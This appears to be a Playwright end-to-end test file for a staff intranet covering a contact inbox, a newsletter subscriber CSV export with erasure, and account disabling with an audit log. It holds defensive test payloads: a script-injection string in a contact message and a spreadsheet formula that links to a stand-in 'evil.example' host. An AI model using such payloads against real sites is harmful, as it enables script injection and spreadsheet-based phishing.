// Inbox and people (issue 8): a message sent through WSM's contact form reaches WSM's inbox, where
// its editor assigns and handles it (the FOS editor meets a 404); the subscribers' CSV export and an
// erasure on request; an intranet admin disables an account, whose session stops working at once,
// and reads the audit log.
import { createHash } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { expect, test, type Page } from '@playwright/test';
import { audit } from '@solidair/auth';
import { sectionPath } from '@solidair/i18n';
import * as m from '@solidair/i18n/messages';
import { expectAccessible } from '@solidair/tooling/playwright/checks';
import { ports } from '@solidair/tooling/ports';
import { e2eDb, forgetTwoFactor, run, signedInPage, staff, userId } from '@solidair/account/e2e/staff';

const db = e2eDb();
test.afterAll(async () => {
	await forgetTwoFactor(db);
	await db.destroy();
});

const locale = 'nl';
const wsm = `http://127.0.0.1:${ports.wsm}`;

/** RFC 4180, as a spreadsheet reads it: quoted fields may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
	const rows: string[][] = [];
	let row: string[] = [];
	let field = '';
	let quoted = false;
	for (let i = 0; i < text.length; i++) {
		const char = text[i];
		if (quoted && char === '"' && text[i + 1] === '"') {
			field += '"';
			i++;
		} else if (char === '"') {
			quoted = !quoted;
		} else if (!quoted && char === ',') {
			row.push(field);
			field = '';
		} else if (!quoted && char === '\r' && text[i + 1] === '\n') {
			row.push(field);
			rows.push(row);
			row = [];
			field = '';
			i++;
		} else {
			field += char;
		}
	}
	expect(field, 'the file ends with CRLF').toBe('');
	return rows;
}

/** Posts the page's form through its button and returns the response's status. */
async function submit(page: Page, button: string): Promise<number> {
	const [response] = await Promise.all([
		page.waitForResponse((r) => r.request().method() === 'POST'),
		page.getByRole('button', { name: button }).click()
	]);
	return response.status();
}

test('a message from WSM’s contact form is assigned and handled in WSM’s inbox; the FOS editor gets 404s', async ({
	browser,
	baseURL
}) => {
	// A visitor of the WSM site writes, with markup that must stay text.
	const visitor = await browser.newPage();
	const text = `Hallo <img src=x onerror="document.title='pwned'"> <b>vet</b> ${run}`;
	await visitor.goto(`${wsm}${sectionPath('contact', locale)}`);
	await visitor.getByLabel(m.contact_name({}, { locale }), { exact: false }).fill(`Camille <i>${run}</i>`);
	await visitor.getByLabel(m.contact_email({}, { locale }), { exact: false }).fill('camille@example.org');
	await visitor.getByLabel(m.contact_subject({}, { locale }), { exact: false }).fill(`Vraag ${run}`);
	await visitor.getByLabel(m.contact_message({}, { locale }), { exact: false }).fill(text);
	await visitor.getByRole('button', { name: m.contact_send({}, { locale }) }).click();
	await expect(visitor.getByText(m.contact_sent({}, { locale }))).toBeVisible();
	await visitor.close();
	const { id } = await db
		.selectFrom('contact_messages')
		.select('id')
		.where('message', '=', text)
		.executeTakeFirstOrThrow();

	const { context, page } = await signedInPage(db, browser, baseURL, staff.an);
	await page.goto(`/${locale}`);
	await page
		.getByRole('link', { name: m.inbox_nav({}, { locale }) })
		.first()
		.click();
	await expect(page.getByRole('heading', { level: 1 })).toHaveText(m.inbox_title({}, { locale }));
	await expectAccessible(page);
	await page.getByRole('link', { name: m.inbox_messages_title({ site: 'WSM' }, { locale }) }).click();
	await expect(page).toHaveURL(`/${locale}/inbox/wsm`);
	await expectAccessible(page);
	await page.getByLabel(m.inbox_status({}, { locale })).selectOption('new');
	await page.getByRole('button', { name: m.filter_apply({}, { locale }) }).click();
	await expect(page).toHaveURL(`/${locale}/inbox/wsm?status=new`);
	await page.getByRole('link', { name: `Camille <i>${run}</i>` }).click();
	await expect(page).toHaveURL(`/${locale}/inbox/wsm/${id}`);
	await expect(page.getByRole('heading', { level: 1 })).toHaveText(`Vraag ${run}`);
	// Shown as typed: no element made of it, nothing run.
	await expect(page.getByTestId('message-text')).toHaveText(text);
	await expect(page.getByTestId('message-text').locator('img, b')).toHaveCount(0);
	expect(await page.title()).not.toBe('pwned');
	await expectAccessible(page);

	// The FOS editor: the list, the message and its actions do not exist for him.
	const tom = await signedInPage(db, browser, baseURL, staff.tom);
	for (const path of [`/${locale}/inbox/wsm`, `/${locale}/inbox/wsm/${id}`, `/${locale}/subscribers/wsm`]) {
		expect((await tom.page.goto(path))?.status(), path).toBe(404);
	}
	await tom.page.goto(`/${locale}/inbox`);
	await expect(
		tom.page.getByRole('link', { name: m.inbox_messages_title({ site: 'WSM' }, { locale }) })
	).toHaveCount(0);
	const forged = await tom.page.evaluate(
		async (path) => (await fetch(`${path}?/handled`, { method: 'POST', body: new FormData() })).status,
		`/${locale}/inbox/wsm/${id}`
	);
	expect(forged).toBe(404);
	await tom.context.close();

	// Assigned to a colleague, then handled.
	await page
		.getByLabel(m.inbox_assignee({}, { locale }), { exact: false })
		.selectOption({ label: 'An Janssens' });
	await page.getByRole('button', { name: m.inbox_assign_submit({}, { locale }) }).click();
	await expect(page.getByText(m.inbox_assigned_notice({ name: 'An Janssens' }, { locale }))).toBeVisible();
	await expectAccessible(page);
	await page.goto(`/${locale}/inbox/wsm?mine=1`);
	await expect(page.getByRole('link', { name: `Camille <i>${run}</i>` })).toBeVisible();
	await page.goto(`/${locale}/inbox/wsm/${id}`);
	await page.getByRole('button', { name: m.inbox_mark_handled({}, { locale }) }).click();
	await expect(page.getByText(m.inbox_handled_notice({}, { locale }))).toBeVisible();
	await expect(page.getByText(m.inbox_status_handled({}, { locale }), { exact: true })).toBeVisible();
	await expect(page.getByRole('button', { name: m.inbox_mark_handled({}, { locale }) })).toHaveCount(0);

	const stored = await db
		.selectFrom('contact_messages')
		.select(['status', 'assigned_to', 'handled_at'])
		.where('id', '=', id)
		.executeTakeFirstOrThrow();
	expect(stored).toMatchObject({ status: 'handled', assigned_to: await userId(db, staff.an) });
	expect(stored.handled_at).not.toBeNull();
	const logged = await db
		.selectFrom('audit_log')
		.select('action')
		.where('target_id', '=', id)
		.orderBy('id')
		.execute();
	expect(logged.map((row) => row.action)).toEqual(['contact.assigned', 'contact.handled']);
	await context.close();
});

test('subscribers: filtered, exported as a CSV that is safe in a spreadsheet, and erased on request', async ({
	browser,
	baseURL
}) => {
	const formula = `=HYPERLINK("http://evil.example/?${run}","klik")@example.org`;
	const plain = `lezer.${run}@example.org`;
	const elsewhere = `fos.${run}@example.org`;
	await db
		.insertInto('newsletter_subscriptions')
		.values([
			{ site_id: 'wsm', email: formula, locale: 'nl', status: 'confirmed', consent_at: new Date() },
			{ site_id: 'wsm', email: plain, locale: 'fr', status: 'pending', consent_at: new Date() },
			{ site_id: 'fos', email: elsewhere, locale: 'nl', status: 'confirmed', consent_at: new Date() }
		])
		.execute();

	const { context, page } = await signedInPage(db, browser, baseURL, staff.an);
	await page.goto(`/${locale}/subscribers/wsm?q=${run}`);
	await expect(page.getByRole('heading', { level: 1 })).toHaveText(
		m.subscribers_title({ site: 'WSM' }, { locale })
	);
	await expect(page.getByRole('row')).toHaveCount(3);
	await expect(page.getByText(elsewhere)).toHaveCount(0);
	await expectAccessible(page);

	// The export of the filtered list, downloaded as a file.
	const [download] = await Promise.all([
		page.waitForEvent('download'),
		page.getByRole('link', { name: m.subscribers_export({}, { locale }) }).click()
	]);
	expect(download.suggestedFilename()).toMatch(/^subscribers-wsm-\d{4}-\d{2}-\d{2}\.csv$/);
	const bytes = await readFile(await download.path());
	expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
	const [header, ...rows] = parseCsv(bytes.toString('utf8').slice(1));
	expect(header).toEqual(['email', 'status', 'locale', 'consent_at', 'confirmed_at', 'unsubscribed_at']);
	// By address: the apostrophe makes a spreadsheet show the formula instead of running it.
	expect(rows.map((row) => row.slice(0, 3))).toEqual([
		[`'${formula}`, 'confirmed', 'nl'],
		[plain, 'pending', 'fr']
	]);
	const response = await context.request.get(`/${locale}/subscribers/wsm/export.csv?q=${run}&status=pending`);
	expect(response.headers()['content-disposition']).toMatch(/^attachment; filename="subscribers-wsm-/);
	expect(response.headers()['content-type']).toBe('text/csv; charset=utf-8');
	expect(
		parseCsv((await response.text()).slice(1))
			.slice(1)
			.map((row) => row[0])
	).toEqual([plain]);

	// Erasure: the address typed again; a wrong one is refused with the input kept.
	const { id } = await db
		.selectFrom('newsletter_subscriptions')
		.select('id')
		.where('email', '=', plain)
		.executeTakeFirstOrThrow();
	await page.getByRole('link', { name: plain }).click();
	await expect(page).toHaveURL(`/${locale}/subscribers/wsm/${id}`);
	await expectAccessible(page);
	const confirm = page.getByLabel(m.subscribers_erase_confirm({}, { locale }), { exact: false });
	await confirm.fill('iemand.anders@example.org');
	expect(await submit(page, m.subscribers_erase_submit({}, { locale }))).toBe(400);
	await expect(confirm).toHaveValue('iemand.anders@example.org');
	await expect(confirm).toHaveAttribute('aria-invalid', 'true');
	await expect(page.getByRole('link', { name: m.subscribers_erase_mismatch({}, { locale }) })).toBeVisible();
	await expectAccessible(page);
	await confirm.fill(plain.toUpperCase());
	await page.getByRole('button', { name: m.subscribers_erase_submit({}, { locale }) }).click();
	await expect(page).toHaveURL(`/${locale}/subscribers/wsm?erased=1`);
	await expect(page.getByText(m.subscribers_erased({}, { locale }))).toBeVisible();

	expect(
		await db.selectFrom('newsletter_subscriptions').select('id').where('email', 'ilike', plain).execute()
	).toEqual([]);
	const entry = await db
		.selectFrom('audit_log')
		.selectAll()
		.where('action', '=', 'subscriber.erased')
		.where('target_id', '=', id)
		.executeTakeFirstOrThrow();
	expect(entry.details).toEqual({
		site: 'wsm',
		emailSha256: createHash('sha256').update(plain).digest('hex')
	});
	expect(JSON.stringify(entry).toLowerCase()).not.toContain(plain);
	await context.close();
});

test('an intranet admin disables an account, whose session stops at once, and finds it in the audit log', async ({
	browser,
	baseURL
}) => {
	// A colleague of WSM made for this test: the demo accounts stay as they are.
	const email = `collega.${run}@wsm.be`;
	const { id } = await db
		.insertInto('users')
		.values({ email, display_name: `Collega ${run}` })
		.returning('id')
		.executeTakeFirstOrThrow();
	const { id: wsmId } = await db
		.selectFrom('organisations')
		.select('id')
		.where('slug', '=', 'wsm')
		.executeTakeFirstOrThrow();
	await db
		.insertInto('memberships')
		.values({ user_id: id, organisation_id: wsmId, role: 'member' })
		.execute();
	const colleague = await signedInPage(db, browser, baseURL, email);
	expect((await colleague.page.goto(`/${locale}/inbox`))?.status()).toBe(200);

	// A site editor is no admin.
	const an = await signedInPage(db, browser, baseURL, staff.an);
	for (const path of [`/${locale}/admin/users`, `/${locale}/admin/users/${id}`, `/${locale}/admin/audit`]) {
		expect((await an.page.goto(path))?.status(), path).toBe(404);
	}
	await an.context.close();

	const { context, page } = await signedInPage(db, browser, baseURL, staff.marie);
	await page.goto(`/${locale}/inbox`);
	await page.getByRole('link', { name: m.users_title({}, { locale }) }).click();
	await expectAccessible(page);
	await page.getByLabel(m.users_search({}, { locale })).fill(run);
	await page.getByRole('button', { name: m.filter_apply({}, { locale }) }).click();
	await expect(page).toHaveURL(`/${locale}/admin/users?q=${run}`);
	await page.getByRole('link', { name: `Collega ${run}` }).click();
	await expect(page.getByRole('heading', { level: 1 })).toHaveText(`Collega ${run}`);
	await expectAccessible(page);
	await page.getByRole('button', { name: m.users_disable({}, { locale }) }).click();
	await expect(page.getByText(m.users_disabled_notice({}, { locale }))).toBeVisible();
	await expectAccessible(page);

	// The colleague's next request finds no session: back to the login page.
	await colleague.page.goto(`/${locale}/inbox`);
	await expect(colleague.page).toHaveURL(new RegExp(`/${locale}/login`));
	expect(await db.selectFrom('sessions').select('id').where('user_id', '=', id).execute()).toEqual([]);
	await colleague.context.close();

	// Roles: made an editor of WSM, and no longer.
	await page.getByRole('button', { name: m.users_editor_grant({ site: 'WSM' }, { locale }) }).click();
	await expect(page.getByText(m.users_roles_notice({}, { locale }))).toBeVisible();
	await page.getByRole('button', { name: m.users_editor_revoke({ site: 'WSM' }, { locale }) }).click();
	await expect(
		page.getByRole('button', { name: m.users_editor_grant({ site: 'WSM' }, { locale }) })
	).toBeVisible();

	// The audit log's pages: from page 2 without a filter, "previous" leads to page 1 (a link made
	// of the query string alone would have been empty, and kept page 2).
	const marie = await userId(db, staff.marie);
	for (let i = 0; i < 30; i++)
		await audit(db, { actorId: marie, action: 'role.granted', targetType: 'user', targetId: id });
	await page.goto(`/${locale}/admin/audit?page=2`);
	await page
		.getByRole('navigation', { name: m.pagination({}, { locale }) })
		.getByRole('link', { name: m.previous({}, { locale }) })
		.click();
	await expect(page).toHaveURL(`/${locale}/admin/audit`);
	// Past the last page (a list can shrink): no error, but the way back.
	const past = await page.goto(`/${locale}/admin/audit?page=999`);
	expect(past?.status()).toBe(200);
	await expect(page.getByText(m.list_page_missing({ page: '999' }, { locale }))).toBeVisible();

	// The audit log, filtered by action: the disabling is there, by Marie.
	await page.goto(`/${locale}/admin/audit`);
	await expectAccessible(page);
	await page.getByLabel(m.audit_action({}, { locale }), { exact: false }).selectOption('user.disabled');
	await page.getByRole('button', { name: m.filter_apply({}, { locale }) }).click();
	await expect(page).toHaveURL(`/${locale}/admin/audit?action=user.disabled`);
	const rows = page.getByRole('table').getByRole('row');
	await expect(rows.nth(1)).toContainText(`user ${id}`);
	await expect(rows.nth(1)).toContainText(staff.marie);
	// The action is named in the reader's language; the option's value (and the URL) keeps the code.
	for (const cell of await page.getByRole('table').locator('tbody tr td:nth-child(3)').allTextContents()) {
		expect(cell.trim()).toBe(m.audit_action_user_disabled({}, { locale }));
	}
	await expectAccessible(page);
	// A range that ends before it starts: a 400, the input kept.
	await page.getByLabel(m.audit_from({}, { locale }), { exact: false }).fill('2026-11-23');
	await page.getByLabel(m.audit_to({}, { locale }), { exact: false }).fill('2026-11-01');
	expect(await submit(page, m.filter_apply({}, { locale }))).toBe(400);
	await expect(page.getByLabel(m.audit_to({}, { locale }), { exact: false })).toHaveValue('2026-11-01');
	await expect(page.getByRole('link', { name: m.audit_range_invalid({}, { locale }) })).toBeVisible();
	await expectAccessible(page);
	await context.close();
});
